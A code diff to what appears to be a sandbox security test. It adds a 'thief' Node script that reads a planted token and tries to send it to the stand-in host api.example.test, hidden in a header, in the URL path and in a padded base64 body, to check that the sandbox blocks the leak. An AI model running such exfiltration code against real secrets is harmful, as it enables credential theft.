@@ -80,6 +80,22 @@ credentials:
   missing: { source: { file: ${join(outside, "missing")} }, env: MISSING, format: npm, network_policy: api }
 `;
 
+const thiefScript = `
+const key = require("node:fs").readFileSync("loot", "utf8");
+const ask = (path, headers, body) => new Promise((resolve) => {
+  const asked = require("node:https").request({ host: "api.example.test", path, method: "POST", headers }, (response) => {
+    let text = "";
+    response.on("data", (part) => (text += part));
+    response.on("end", () => resolve([response.statusCode, JSON.parse(text).error]));
+  });
+  asked.end(body);
+});
+(async () => console.log(JSON.stringify([
+  await ask("/stolen", { Authorization: "Bearer " + key }),
+  await ask("/stolen/" + key, {}),
+  await ask("/stolen", {}, "x".repeat(100) + Buffer.from("key=" + key).toString("base64")),
+])))();`;
+
 /** What came to the servers, by path. */
 const came: Record<string, unknown[]> = {};
 
@@ -229,6 +245,11 @@ try {
   const { stdout, stderr, denials } = await sandbox.exec(node, [join(workdir, "client.mjs")], { timeout: 60_000 });
   if (stdout.length === 0) throw new Error(`the client failed: ${stderr}`);
   const seen = JSON.parse(stdout.toString());
+  // However a program came by it: sent by itself it does not go on, not to the place that it is for either.
+  const loot = join(workdir, "loot");
+  writeFileSync(loot, secrets.token);
+  const thief = await sandbox.exec(node, ["-e", thiefScript], { timeout: 30_000 });
+  rmSync(loot);
   const second = await Sandbox.create({ workdir, policy: sound(policyText) });
   const { stdout: other } = await second.exec("sh", ["-c", 'printf %s "$TOKEN"']);
   await second.dispose();
@@ -236,7 +257,8 @@ try {
     seen: stdout.toString(),
     stderr: stderr.toString(),
     lines: JSON.stringify(lines),
-    denials: JSON.stringify(denials),
+    denials: JSON.stringify([denials, thief.denials]),
+    thief: `${thief.stdout}${thief.stderr}`,
   };
   const all = await searchSandbox(sandbox, Object.values(secrets), everything);
   const found = Object.fromEntries(
@@ -250,6 +272,7 @@ try {
       said: texts,
       lines,
       denials,
+      thief: JSON.parse(thief.stdout.toString()),
       secrets,
       found,
       otherSession: other.toString(),
